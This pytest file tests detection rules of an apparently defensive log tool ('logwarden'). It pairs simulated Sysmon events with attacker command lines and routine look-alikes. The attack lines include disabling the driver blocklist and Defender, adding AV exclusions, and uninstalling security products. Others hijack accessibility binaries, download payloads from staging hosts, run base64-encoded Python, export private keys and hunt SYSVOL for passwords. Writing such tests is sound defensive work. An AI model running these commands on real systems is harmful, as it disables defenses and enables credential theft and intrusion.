"""logwarden's own Windows process-creation rules in detect/data/windows_process_b.yml.

Each rule gets the attack as Sysmon 1 logs it (fields as in real telemetry, names anonymised) and
fires at its level; the same binary used the routine way stays quiet. Events go through the real
windows parser (tests/app/detect/rules/test_windows_directory_rules.evtx)."""
from __future__ import annotations

import pytest
from test_windows_directory_rules import evtx, hits
from test_windows_process_a_rules import CERTUTIL, CHROME, CMD, CURL, PS, REG, S32, SYSMON, WMIC

SCHTASKS = S32 + "schtasks.exe"


def proc(image: str, command_line: str, original: str | None = None, parent: str = CMD, line_no: int = 1):
    """Sysmon 1 process creation, parsed."""
    data = {"Image": image, "CommandLine": command_line, "ParentImage": parent,
            "ParentCommandLine": parent, "User": "CORP\\alice", "IntegrityLevel": "High",
            "CurrentDirectory": "C:\\Users\\alice\\"}
    data["OriginalFileName"] = original if original is not None else image.rsplit("\\", 1)[-1]
    return evtx(1, SYSMON, "Microsoft-Windows-Sysmon", data, line_no=line_no)


# (rule, level, attack event(s), routine look-alike(s))
CASES = [
    ("lw-win-driver-blocklist-off", "high",
     [proc(REG, 'reg  add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\CI\\Config" '
                '/v VulnerableDriverBlocklistEnable /t REG_DWORD /d 00000000 /f'),
      proc(PS, 'powershell Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\CI\\Config '
               '-Name VulnerableDriverBlocklistEnable -Value 0', parent=CMD)],
     [proc(REG, 'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\CI\\Config" /v VulnerableDriverBlocklistEnable'),
      proc(REG, 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\CI\\Config" /v VulnerableDriverBlocklistEnable '
                '/t REG_DWORD /d 1 /f')]),
    ("lw-win-finger-exec", "medium",
     [proc(S32 + "finger.exe", "finger"),
      proc(S32 + "finger.exe", "finger user@198.51.100.7", parent=CMD)],
     [proc("C:\\Program Files\\Fingerprint\\fingerprint.exe", "fingerprint.exe --enroll")]),
    ("lw-win-cmdkey-list", "medium",
     [proc(S32 + "cmdkey.exe", "cmdkey  /list"),
      proc(S32 + "cmdkey.exe", "cmdkey /list:TERMSRV/*")],
     [proc(S32 + "cmdkey.exe", "cmdkey /delete:TERMSRV/rdsh01.corp.local")]),
    ("lw-win-cmdkey-add-password", "medium",
     [proc(S32 + "cmdkey.exe", '"C:\\Windows\\system32\\cmdkey.exe" /generic:TERMSRV/dc01 /user:CORP\\admin /pass:S3cret!',
           parent=PS)],
     [proc(S32 + "cmdkey.exe", "cmdkey /add:fs01.corp.local /user:CORP\\alice /pass"),
      proc(S32 + "cmdkey.exe", "cmdkey /list")]),
    ("lw-win-renamed-script-host", "high",
     [proc("C:\\Users\\alice\\Downloads\\tools\\helper.exe", "helper.exe", original="msdt.exe"),
      proc("C:\\Users\\alice\\AppData\\Local\\Temp\\update.exe", "update.exe //b run.js", original="wscript.exe"),
      proc("C:\\ProgramData\\svc.exe", "svc.exe -nop -c whoami", original="PowerShell.EXE")],
     [proc(S32 + "wscript.exe", "wscript.exe //b logon.vbs", original="wscript.exe"),
      proc(S32 + "msdt.exe", "msdt.exe -id NetworkDiagnosticsWeb", original="msdt.exe"),
      proc(PS, "powershell -NoProfile", original="PowerShell.EXE")]),
    ("lw-win-renamed-utility", "medium",
     [proc("C:\\Users\\alice\\Downloads\\tools\\fw.exe", "fw.exe", original="netsh.exe"),
      proc("C:\\Users\\alice\\Downloads\\tools\\get.exe", "get.exe -o a.bin https://example.org/a", original="curl.exe")],
     [proc(S32 + "netsh.exe", "netsh interface show interface", original="netsh.exe"),
      proc(CURL, "curl -s https://example.org/health", original="curl.exe")]),
    ("lw-win-memprocfs", "medium",
     [proc("C:\\Users\\alice\\Downloads\\MemProcFS\\MemProcFS.exe", "MemProcFS.exe  -device c:\\temp\\host.raw",
           original="MemProcFS.exe")],
     [proc("C:\\Program Files\\Memory Tools\\memtest.exe", "memtest.exe -device c:\\temp\\host.raw")]),
    ("lw-win-accessibility-symlink", "high",
     [proc(CMD, 'cmd  /c "mklink C:\\Windows\\System32\\osk.exe C:\\Windows\\System32\\cmd.exe"', original="Cmd.Exe"),
      proc(CMD, 'cmd /c mklink C:\\Windows\\System32\\utilman.exe C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
           original="Cmd.Exe")],
     [proc(CMD, 'cmd /c mklink /d C:\\data\\current C:\\data\\release-42', original="Cmd.Exe"),
      proc(CMD, 'cmd /c "C:\\Windows\\System32\\osk.exe"', original="Cmd.Exe")]),
    ("lw-win-ssaf-defender-off", "high",
     [proc(S32 + "SystemSettingsAdminFlows.exe", "SystemSettingsAdminFlows.exe  Defender SubmitSamplesConsent 0",
           original="SystemSettingsAdminFlows.EXE", parent="-"),
      proc(S32 + "SystemSettingsAdminFlows.exe", "SystemSettingsAdminFlows.exe Defender RTP 1",
           original="SystemSettingsAdminFlows.EXE")],
     [proc(S32 + "SystemSettingsAdminFlows.exe", "SystemSettingsAdminFlows.exe Defender SubmitSamplesConsent 1",
           original="SystemSettingsAdminFlows.EXE"),
      proc(S32 + "SystemSettingsAdminFlows.exe", "SystemSettingsAdminFlows.exe SetInternetTime 1",
           original="SystemSettingsAdminFlows.EXE")]),
    ("lw-win-edr-freeze", "high",
     [proc("C:\\Users\\alice\\Downloads\\EDRFreeze-gnu.exe", "EDRFreeze-gnu.exe  3472 10000", original="-")],
     [proc(S32 + "WerFault.exe", "WerFault.exe -u -p 3472 -s 812", original="WerFault.exe")]),
    ("lw-win-secret-scanner-from-interpreter", "high",
     [proc(CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "trufflehog\\trufflehog.exe filesystem . --json"',
           original="Cmd.Exe", parent="C:\\Program Files\\nodejs\\node.exe")],
     [proc(CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "node scripts\\build.js"', original="Cmd.Exe",
           parent="C:\\Program Files\\nodejs\\node.exe"),
      proc("C:\\tools\\trufflehog.exe", "trufflehog.exe git file://. --json", parent=CMD),
      proc(CMD, 'cmd.exe /d /s /c "gitleaks protect --staged --redact"', original="Cmd.Exe",
           parent="C:\\Program Files\\nodejs\\node.exe")]),
    ("lw-win-secret-scanner", "medium",
     [proc("C:\\Users\\alice\\Documents\\trufflehog\\trufflehog.exe", "trufflehog\\trufflehog.exe  filesystem . --json",
           original="-")],
     [proc("C:\\Program Files\\Git\\cmd\\git.exe", "git log --grep trufflehog")]),
    ("lw-win-curl-payload-ip-or-staging", "high",
     [proc(CURL, "curl  -k https://github.com/org/repo/raw/abc/bin/payload.dll -o c:\\users\\public\\music\\payload.dll"),
      proc(CURL, 'curl  --output benign.hta "https://203.0.113.9/hack/evil.hta"')],
     [proc(CURL, "curl -L -o C:\\build\\node-v20.zip https://nodejs.org/dist/v20.0.0/node-v20.0.0-win-x64.zip"),
      proc(CURL, "curl -o C:\\Users\\alice\\Downloads\\setup.exe https://download.example.com/setup.exe"),
      proc(CURL, "curl http://192.0.2.10:8080/health"),
      proc(CURL, "curl -o C:\\ProgramData\\Vendor\\agent.msi https://download.example.com/agent.msi")]),
    ("lw-win-curl-payload-file-sharing", "medium",
     [proc(CURL, 'curl  -O "https://raw.githubusercontent.com/someone/tools/0123abcd/Invoke-Thing.ps1"')],
     [proc(CURL, "curl -O https://raw.githubusercontent.com/org/project/main/README.md"),
      proc(CURL, "curl -O https://download.example.com/agent/install.ps1")]),
    ("lw-win-wmic-defender-preference", "high",
     [proc(WMIC, '"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe" /Namespace:\\\\root\\Microsoft\\Windows\\Defender '
                 'class MSFT_MpPreference call Add ExclusionPath=\\Staging\\', original="wmic.exe", parent=PS)],
     [proc(WMIC, 'wmic /Namespace:\\\\root\\Microsoft\\Windows\\Defender path MSFT_MpComputerStatus get AntivirusEnabled',
           original="wmic.exe"),
      proc(WMIC, 'wmic /Namespace:\\\\root\\Microsoft\\Windows\\Defender path MSFT_MpPreference get ExclusionPath',
           original="wmic.exe")]),
    ("lw-win-autologger-disabled", "high",
     [proc(REG, '"C:\\WINDOWS\\system32\\reg.exe" add HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\WMI\\'
                'Autologger\\EventLog-Application /v start /t REG_DWORD /d 0 /f', parent=PS)],
     [proc(REG, 'reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Application /v Start'),
      proc(REG, 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Application /v Start '
                '/t REG_DWORD /d 1 /f')]),
    ("lw-win-safeboot-service-added", "high",
     [proc(REG, "reg  copy hklm\\system\\CurrentControlSet\\services\\acpi "
                "hklm\\system\\CurrentControlSet\\control\\safeboot\\network\\svcx /s /f"),
      proc(REG, 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Minimal\\svcx" /ve /t REG_SZ /d Service /f')],
     [proc(REG, "reg query hklm\\system\\CurrentControlSet\\control\\safeboot\\network"),
      proc(REG, "reg export hklm\\system\\CurrentControlSet\\control\\safeboot\\minimal C:\\backup\\safeboot.reg")]),
    ("lw-win-wmic-uninstall-security-product", "high",
     [proc(WMIC, "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" product where \"name like '%%AVG %%'\" call uninstall "
                 "/nointeractive", original="wmic.exe", parent=PS),
      proc(WMIC, "wmic product where \"name like '%Sophos%'\" call uninstall", original="wmic.exe")],
     [proc(WMIC, "wmic product where \"name like '%7-Zip%'\" call uninstall /nointeractive", original="wmic.exe"),
      proc(WMIC, "wmic product where \"name like '%Sophos%'\" get version", original="wmic.exe")]),
    ("lw-win-rtlo-in-process", "high",
     [proc("C:\\Users\\alice\\Downloads\\Invoice\u202egpj.exe", '"C:\\Users\\alice\\Downloads\\Invoice\u202egpj.exe"',
           original="CALC.EXE", parent="C:\\Windows\\explorer.exe")],
     [proc("C:\\Users\\alice\\Downloads\\Invoice.exe", '"C:\\Users\\alice\\Downloads\\Invoice.exe"',
           parent="C:\\Windows\\explorer.exe")]),
    ("lw-win-browser-extension-from-temp", "high",
     [proc(CHROME, f'"{CHROME}"  --load-extension="C:\\Users\\alice\\AppData\\Local\\Temp\\xk3ab"')],
     [proc(CHROME, f'"{CHROME}" --load-extension="C:\\src\\my-extension\\dist"'),
      proc(CHROME, f'"{CHROME}" --profile-directory=Default')]),
    ("lw-win-python-b64-exec", "high",
     [proc("C:\\Users\\alice\\AppData\\Local\\Python\\pythoncore-3.14-64\\python.exe",
           '"C:\\Users\\alice\\AppData\\Local\\Python\\pythoncore-3.14-64\\python.exe"  -c "import base64; '
           "exec(base64.b64decode('aW1wb3J0IG9z'))\"")],
     [proc("C:\\Python312\\python.exe", "python -c \"import base64; print(base64.b64encode(b'hello'))\""),
      proc("C:\\Python312\\python.exe", "python -c \"import base64,sys; sys.stdout.write(base64.b64decode(sys.argv[1]).decode())\" aGk=")]),
    ("lw-win-svchost-masquerade", "high",
     [proc("C:\\Users\\alice\\Downloads\\svchost.exe", ".\\svchost.exe", original="CALC.EXE"),
      proc("C:\\ProgramData\\Microsoft\\svchost.exe", "svchost.exe -k netsvcs", original="svchost.exe")],
     [proc(S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", original="svchost.exe",
           parent=S32 + "services.exe"),
      proc("C:\\Windows\\SysWOW64\\svchost.exe", "svchost.exe -k LocalService", original="svchost.exe",
           parent=S32 + "services.exe")]),
    ("lw-win-schtasks-kill-protective-task", "high",
     [proc(SCHTASKS, 'schtasks  /delete /f /tn "\\Microsoft\\Windows\\SystemRestore\\SR"'),
      proc(SCHTASKS, 'schtasks.exe  /Change /TN "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /disable')],
     [proc(SCHTASKS, 'schtasks /delete /f /tn "\\Vendor\\UpdaterTask"'),
      proc(SCHTASKS, 'schtasks /query /tn "\\Microsoft\\Windows\\SystemRestore\\SR"'),
      proc(SCHTASKS, 'schtasks /change /tn "\\Microsoft\\Windows\\SystemRestore\\SR" /enable')]),
    ("lw-win-curl-ntlm-current-user", "medium",
     [proc(CURL, "curl  -u : --ntlm http://collector.example.net")],
     [proc(CURL, "curl --ntlm -u CORP\\svc_report:pw https://reports.corp.local/api"),
      proc(CURL, "curl -u alice:pw https://api.example.com")]),
    ("lw-win-kdu-driver-loader", "high",
     [proc("C:\\Users\\alice\\Downloads\\kdu.exe", '"C:\\Users\\alice\\Downloads\\kdu.exe"  -prv 1 -map MyDriver.sys',
           original="Hamakaze.exe"),
      proc("C:\\Users\\alice\\Downloads\\kdu.exe", "kdu.exe -dse 0", original="-")],
     [proc("C:\\Program Files\\KDU Systems\\kdu.exe", "kdu.exe --sync", original="kdu.exe")]),
    ("lw-win-findstr-gpp-cpassword", "high",
     [proc(S32 + "findstr.exe", "findstr  /S cpassword \\\\dc01\\sysvol\\*.xml", original="FINDSTR.EXE")],
     [proc(S32 + "findstr.exe", "findstr /S /I displayName \\\\dc01\\sysvol\\*.xml", original="FINDSTR.EXE")]),
    ("lw-win-dtrace-kernel-dump", "high",
     [proc("C:\\Program Files\\DTrace\\dtrace.exe", 'dtrace.exe  -w -n "syscall:::return {lkd(0); exit(0);}"')],
     [proc("C:\\Program Files\\DTrace\\dtrace.exe", 'dtrace.exe -n "syscall:::entry { @[execname] = count(); }"')]),
    ("lw-win-wmic-service-startmode", "medium",
     [proc(WMIC, "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" service where name='vss' call ChangeStartMode Manual",
           original="wmic.exe", parent="-")],
     [proc(WMIC, "wmic service where name='Spooler' call ChangeStartMode Automatic", original="wmic.exe"),
      proc(WMIC, "wmic service where name='vss' get StartMode", original="wmic.exe")]),
    ("lw-win-certutil-encode-file", "medium",
     [proc(CERTUTIL, "certutil  -encode file.bat file_.base64", original="CertUtil.exe"),
      proc(CERTUTIL, "certutil -encode C:\\Users\\alice\\loot.zip C:\\Users\\Public\\l.txt", original="CertUtil.exe")],
     [proc(CERTUTIL, "certutil -encode rootca.cer rootca.b64", original="CertUtil.exe"),
      proc(CERTUTIL, "certutil -decode rootca.b64 rootca.cer", original="CertUtil.exe")]),
    ("lw-win-eventlog-rdp-recon", "medium",
     [proc(PS, "powershell  -Command \"Get-WinEvent -LogName 'Microsoft-Windows-TerminalServices-LocalSessionManager/"
               "Operational' | Where-Object {$_.Id -eq 21} | ForEach-Object { $x = [xml]$_.ToXml(); "
               "$u = $x.Event.UserData.EventXML.User; $a = $x.Event.UserData.EventXML.Address }\"",
           original="PowerShell.EXE")],
     [proc(PS, "powershell -Command \"Get-WinEvent -LogName 'Microsoft-Windows-TerminalServices-LocalSessionManager/"
               "Operational' -MaxEvents 20 | Format-List TimeCreated,Id\"", original="PowerShell.EXE"),
      proc(PS, "powershell -Command \"Get-WinEvent -LogName System -MaxEvents 50\"", original="PowerShell.EXE")]),
    ("lw-win-conhost-headless-shell", "medium",
     [proc(S32 + "conhost.exe", "conhost  --headless powershell calc", original="CONHOST.EXE"),
      proc(S32 + "conhost.exe", "conhost.exe --headless cmd.exe /c C:\\Users\\Public\\a.bat", original="CONHOST.EXE")],
     [proc(S32 + "conhost.exe", "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1", original="CONHOST.EXE")]),
    ("lw-win-cmd-start-hidden-user-payload", "medium",
     [proc(CMD, '"C:\\WINDOWS\\system32\\cmd.exe" /c "start /b /min C:\\Users\\alice\\Music\\random.vbs"',
           original="Cmd.Exe", parent="C:\\Windows\\explorer.exe")],
     [proc(CMD, 'cmd /c start /min "" "C:\\Program Files\\Vendor\\tray.exe"', original="Cmd.Exe"),
      proc(CMD, 'cmd /c start C:\\Users\\alice\\Documents\\report.docx', original="Cmd.Exe")]),
    ("lw-win-curl-insecure-proxy-doh", "medium",
     [proc(CURL, "curl  --proxy-insecure -p -x http://127.0.0.1:1234 --silent -v --show-error http://127.0.0.1:888/echo"),
      proc(CURL, "curl --doh-url https://203.0.113.5/dns-query --doh-insecure https://example.org")],
     [proc(CURL, "curl -x http://proxy.corp.local:8080 https://example.org"),
      proc(CURL, "curl -k https://localhost:8443/health")]),
    ("lw-win-certutil-root-from-user-path", "medium",
     [proc(CERTUTIL, "certutil  -addstore -f root C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\cert.cer",
           original="CertUtil.exe")],
     [proc(CERTUTIL, "certutil -addstore -f root \\\\fs01\\pki\\CorpRootCA.cer", original="CertUtil.exe"),
      proc(CERTUTIL, "certutil -addstore -f TrustedPublisher C:\\Users\\alice\\Downloads\\vendor.cer",
           original="CertUtil.exe")]),
    ("lw-win-advanced-network-scanner", "medium",
     [proc("C:\\Users\\alice\\AppData\\Local\\Temp\\2\\Advanced Port Scanner 2\\advanced_port_scanner.exe",
           '"advanced_port_scanner.exe" /portable "C:/Users/alice/Downloads/" /lng en_us',
           parent="C:\\Users\\alice\\AppData\\Local\\Temp\\2\\is-1AB2C.tmp\\Advanced_Port_Scanner_2.5.3869.tmp"),
      proc("C:\\Program Files (x86)\\Advanced IP Scanner\\advanced_ip_scanner.exe",
           '"C:\\Program Files (x86)\\Advanced IP Scanner\\advanced_ip_scanner.exe"')],
     [proc("C:\\Program Files\\Nmap\\zenmap.exe", "zenmap.exe"),
      proc(S32 + "ping.exe", "ping advanced-ip-scanner.example.com")]),
    ("lw-win-dsquery-domain-trusts", "medium",
     [proc(S32 + "dsquery.exe", 'dsquery  * -filter "(objectClass=trustedDomain)" -attr *')],
     [proc(S32 + "dsquery.exe", 'dsquery user -name "Alice*"'),
      proc(S32 + "dsquery.exe", 'dsquery * -filter "(objectClass=organizationalUnit)" -attr name')]),
    ("lw-win-certutil-export-pfx", "medium",
     [proc(CERTUTIL, "certutil  -p secret -exportPFX root 1c6119aff8414c91487c4e02d18dd73d c:\\cert.pfx",
           original="CertUtil.exe")],
     [proc(CERTUTIL, "certutil -store My", original="CertUtil.exe"),
      proc(CERTUTIL, "certutil -importPFX C:\\certs\\web.pfx", original="CertUtil.exe")]),
    ("lw-win-findstr-acl-recon", "medium",
     [proc(S32 + "findstr.exe", 'findstr  "(M)"', original="FINDSTR.EXE"),
      proc(S32 + "findstr.exe", 'findstr /i "Everyone:(F)"', original="FINDSTR.EXE")],
     [proc(S32 + "findstr.exe", 'findstr /i "error" C:\\logs\\app.log', original="FINDSTR.EXE"),
      proc(S32 + "findstr.exe", 'findstr /c:"(Microsoft)" setup.log', original="FINDSTR.EXE")]),
]


@pytest.mark.parametrize(("rule_id", "level", "attacks", "routine"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires_on_attack_and_not_on_routine_use(rules, rule_id, level, attacks, routine):
    for event in attacks:
        assert hits(rules, [event], rule_id) == [(level, [1])], event.fields.get("CommandLine") if hasattr(event, "fields") else event
    for event in routine:
        assert hits(rules, [event], rule_id) == [], getattr(event, "fields", event)


def test_every_rule_in_the_file_is_covered(rules):
    import re
    from pathlib import Path

    import logwarden.app.detect as detect
    text = (Path(detect.__file__).parent / "data" / "windows_process_b.yml").read_text(encoding="utf-8")
    names = set(re.findall(r"^name: (lw-[\w-]+)$", text, re.M))
    assert names == {c[0] for c in CASES}


def test_security_4688_shape_fires_too(rules):
    """Rules keyed on Image/CommandLine also fire on Security 4688 (no OriginalFileName)."""
    event = evtx(4688, "Security", "Microsoft-Windows-Security-Auditing",
                 {"NewProcessName": SCHTASKS, "ParentProcessName": CMD, "SubjectUserName": "alice",
                  "CommandLine": 'schtasks /delete /f /tn "\\Microsoft\\Windows\\SystemRestore\\SR"'})
    assert hits(rules, [event], "lw-win-schtasks-kill-protective-task") == [("high", [1])]
